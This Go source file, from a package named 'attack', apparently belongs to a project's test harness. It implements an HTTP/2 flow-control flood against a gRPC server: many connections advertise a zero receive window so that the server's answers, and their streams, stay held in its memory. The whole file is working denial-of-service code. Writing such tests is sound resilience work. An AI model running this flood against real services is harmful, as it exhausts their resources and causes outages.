package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"
)

// HeldAnswers counts a HoldAnswers flood: Conns is the connections that
// finished their handshake, Calls the calls sent on them, Kept those
// answered with headers whose message the grantor holds (no window for
// it), Refused those answered at once with trailers or a reset.
type HeldAnswers struct {
	Conns, Calls, Kept, Refused int64
	openConns
}

// HoldAnswers opens conns HTTP/2 connections to addr with cfg (a client
// certificate of one identity) and on each sends perConn unary calls of
// method with the request req, whole, one at a time: the next once the
// grantor answered the one before. It reads everything the grantor sends
// but opens no flow-control window (its streams' initial window is 0), so
// that no answer's message is ever written: each answered call keeps its
// stream, and its answer, at the grantor after its handler returned,
// while at most one call per connection is in a handler at a time (lane
// k2's flood of issue 21). It returns once every call is answered, with
// the connections open; Close closes them.
func HoldAnswers(ctx context.Context, addr string, cfg *tls.Config, method string, req proto.Message, conns, perConn int) (*HeldAnswers, error) {
	body, err := grpcMessage(req)
	if err != nil {
		return nil, err
	}
	var (
		mu                   sync.Mutex
		h                    = &HeldAnswers{}
		wg                   sync.WaitGroup
		calls, kept, refused atomic.Int64
		firstErr             error
	)
	fail := func(err error) {
		mu.Lock()
		if firstErr == nil {
			firstErr = err
		}
		mu.Unlock()
	}
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := tls.Dialer{Config: cfg}
			c, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				fail(err)
				return
			}
			mu.Lock()
			h.conns = append(h.conns, c)
			h.Conns++
			mu.Unlock()
			context.AfterFunc(ctx, func() { c.Close() })
			if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
				fail(err)
				return
			}
			fr := http2.NewFramer(c, c)
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
				fail(err)
				return
			}
			hw := newCallHeaders(fr, method, addr)
			for k := range perConn {
				id := uint32(2*k + 1)
				if err := hw.write(id); err != nil {
					fail(err)
					return
				}
				if err := fr.WriteData(id, true, body); err != nil {
					fail(err)
					return
				}
				calls.Add(1)
				held, err := awaitAnswer(fr, id)
				if err != nil {
					fail(err)
					return
				}
				if held {
					kept.Add(1)
				} else {
					refused.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	h.Calls, h.Kept, h.Refused = calls.Load(), kept.Load(), refused.Load()
	if err := ctx.Err(); err != nil {
		return h, err
	}
	return h, firstErr
}

// awaitAnswer reads frames until stream id is answered: true for the
// headers of an answer (its message waiting for a window), false for
// trailers without one or a reset.
func awaitAnswer(fr *http2.Framer, id uint32) (bool, error) {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return false, err
		}
		switch f := f.(type) {
		case *http2.HeadersFrame:
			if f.StreamID == id {
				return !f.StreamEnded(), nil
			}
		case *http2.RSTStreamFrame:
			if f.StreamID == id {
				return false, nil
			}
		case *http2.GoAwayFrame:
			return false, errors.New("attack: the grantor sent GOAWAY: " + f.ErrCode.String())
		}
	}
}
